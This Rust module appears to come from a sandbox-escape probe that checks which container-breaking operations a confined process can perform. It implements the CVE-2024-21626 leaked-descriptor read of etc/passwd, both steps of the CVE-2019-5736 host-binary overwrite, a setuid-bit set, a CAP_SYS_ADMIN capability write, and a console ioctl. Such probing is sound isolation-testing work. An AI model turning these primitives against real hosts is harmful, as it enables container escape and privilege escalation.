//! Files by all the ways that lead to one. Nothing that a probe finds is changed by it, and what it makes it removes.

use std::{
    ffi::CString,
    fs::{self, File},
    io::{self, Read, Write},
    os::{
        fd::IntoRawFd,
        unix::{fs::PermissionsExt, net::UnixListener},
    },
};

use super::{check, descriptors};

/// Opens for writing, and writes nothing: some of these files would end the machine.
pub(crate) fn open_to_write(path: &str) -> io::Result<String> {
    File::options().write(true).open(path)?;
    Ok("may write".to_owned())
}

pub(crate) fn make_directory(path: &str) -> io::Result<String> {
    fs::create_dir(path)?;
    fs::remove_dir(path)?;
    Ok("made a directory".to_owned())
}

pub(crate) fn make_link(path: &str) -> io::Result<String> {
    std::os::unix::fs::symlink("/", path)?;
    fs::remove_file(path)?;
    Ok("made a link".to_owned())
}

pub(crate) fn make_socket(path: &str) -> io::Result<String> {
    UnixListener::bind(path)?;
    fs::remove_file(path)?;
    Ok("made a socket".to_owned())
}

/// To what it is already: who may do that may open it for everybody.
pub(crate) fn change_mode(path: &str) -> io::Result<String> {
    let mode = fs::metadata(path).map_or(0o555, |status| status.permissions().mode());
    fs::set_permissions(path, fs::Permissions::from_mode(mode))?;
    Ok("may change the mode".to_owned())
}

/// Goes to the directory that descriptor `number` is, and reads a file from there: a descriptor that somebody forgot to
/// close is a door in any wall of mounts (CVE-2024-21626).
pub(crate) fn read_from_directory(number: i32) -> io::Result<String> {
    // SAFETY: one integer.
    check(i64::from(unsafe { libc::fchdir(number) }))?;
    let mut text = String::new();
    File::open("etc/passwd")?.take(64).read_to_string(&mut text)?;
    Ok(format!("read {} bytes", text.len()))
}

/// The first half of CVE-2019-5736: keeps its own program open, and runs another one, so that its own is not running
/// any more and may be opened for writing.
pub(crate) fn keep_own_program(number: i32) -> io::Result<String> {
    let kept = File::open("/proc/self/exe")?.into_raw_fd();
    // SAFETY: two integers: it stays open in what is run next.
    check(i64::from(unsafe { libc::fcntl(kept, libc::F_SETFD, 0) }))?;
    let words = CString::new(format!("write-program={kept}"))?;
    descriptors::execute_with(number, number, &words)
}

/// The second half: a byte more at the end of that program.
pub(crate) fn write_program(number: i32) -> io::Result<String> {
    let mut program = File::options()
        .append(true)
        .open(format!("/proc/self/fd/{number}"))?;
    program.write_all(b"x")?;
    Ok("changed the program".to_owned())
}

/// Whoever runs descriptor `number` outside has its owner's rights (CVE-2024-38531).
pub(crate) fn set_user_id(number: i32) -> io::Result<String> {
    // SAFETY: two integers.
    check(i64::from(unsafe { libc::fchmod(number, 0o4755) }))?;
    Ok("set the bit".to_owned())
}

/// To the user that a box has: the one id that means something on both sides.
pub(crate) fn change_owner(number: i32) -> io::Result<String> {
    const USER: u32 = 65_534;
    // SAFETY: three integers.
    check(i64::from(unsafe { libc::fchown(number, USER, USER) }))?;
    Ok("gave it away".to_owned())
}

/// A capability in place of the bit.
pub(crate) fn set_capability(number: i32) -> io::Result<String> {
    /// `struct vfs_cap_data` of version 2, with the right to do anything in its first permitted half.
    const CAPABILITY: [u32; 5] = [0x0200_0000_u32.to_le(), (1_u32 << 21).to_le(), 0, 0, 0];
    // SAFETY: a live zero-terminated name, and a value of that length.
    check(i64::from(unsafe {
        libc::fsetxattr(
            number,
            c"security.capability".as_ptr(),
            CAPABILITY.as_ptr().cast(),
            size_of_val(&CAPABILITY),
            0,
        )
    }))?;
    Ok("gave it a capability".to_owned())
}

/// Asks the console, which descriptor `number` is, for the keys that are held down: the kernel asks for the same rights
/// before it pastes what is selected there.
pub(crate) fn console(number: i32) -> io::Result<String> {
    /// `TIOCLINUX` of `ioctl_tty(2)`, and its number 6.
    const CALL: libc::Ioctl = 0x541C;
    let mut byte = 6_u8;
    // SAFETY: a live byte that is read and written; a number that is not open fails.
    check(i64::from(unsafe { libc::ioctl(number, CALL, &raw mut byte) }))?;
    Ok("talks to the console".to_owned())
}
